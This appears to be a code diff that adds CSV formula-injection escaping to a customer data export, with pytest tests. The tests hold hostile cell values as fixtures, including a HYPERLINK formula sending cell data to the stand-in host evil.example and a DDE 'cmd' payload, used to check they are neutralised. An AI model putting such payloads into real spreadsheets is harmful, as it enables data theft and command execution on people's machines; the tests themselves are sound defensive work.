@@ -133,7 +133,9 @@ def _flat(record: dict[str, Any], prefix: str = "") -> dict[str, str]:
             out[f"{prefix}{key}"] = str(value).lower()
         else:
             out[f"{prefix}{key}"] = "" if value is None else str(value)
-    return out
+    # A text cell a spreadsheet would read as a formula is written with a leading quote (OWASP).
+    return {k: "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", v)
+            else v for k, v in out.items()}
 
 
 def _csv_rows(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
@@ -387,3 +389,28 @@ def test_signed_amounts_and_naive_timestamps_are_refused() -> None:
         transaction_record(tx.model_copy(update={"booked_at": datetime(2024, 1, 1)}))
     with pytest.raises(ValueError, match="finite"):
         transaction_record(tx.model_copy(update={"amount": Decimal("NaN")}))
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(trigger):
+    hostile = {"=": '=HYPERLINK("http://evil.example/?d="&C2,"click")', "+": "+Smith", "-": "-2+3", "@": "@SUM(1+1)",
+               "\t": "\t=1+1", "\r": "\r=1+1"}[trigger]
+    customer = CUSTOMER_RECORD.model_copy(update={"profile": CUSTOMER_RECORD.profile.model_copy(
+        update={"given_names": hostile, "family_name": "Müller"})})
+    spec = _spec(formats=("csv",), include=("profile", "transactions"))
+    tx = Transaction(transaction_id="t-1", booked_at=datetime(2026, 11, 1, tzinfo=UTC), amount=Decimal("12.50"),
+                     currency="EUR", direction=Direction.DEBIT, counterparty=Counterparty(name="=cmd|' /C calc'!A0"))
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(build_package(spec, {
+        "profile": lambda: [profile_record(customer)], "transactions": lambda: [transaction_record(tx)]}))))
+    _, [profile] = _csv_rows(archive.read("profile.csv"))
+    assert profile["GivenNames"] == "'" + hostile and profile["FamilyName"] == "Müller"
+    _, [row] = _csv_rows(archive.read("transactions.csv"))
+    assert row["CreditorAccount.Name"] == "'=cmd|' /C calc'!A0"
+    assert row["Amount.Amount"] == "12.50"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("value", ["-12.50", "-3", "0.99", "2026-11-01T00:00:00Z", "Smith-Jones", "a=b"])
+def test_numbers_and_ordinary_text_are_left_as_they_are(value):
+    from chalicelib.domain.spreadsheet import safe_cell
+
+    assert safe_cell(value) == value
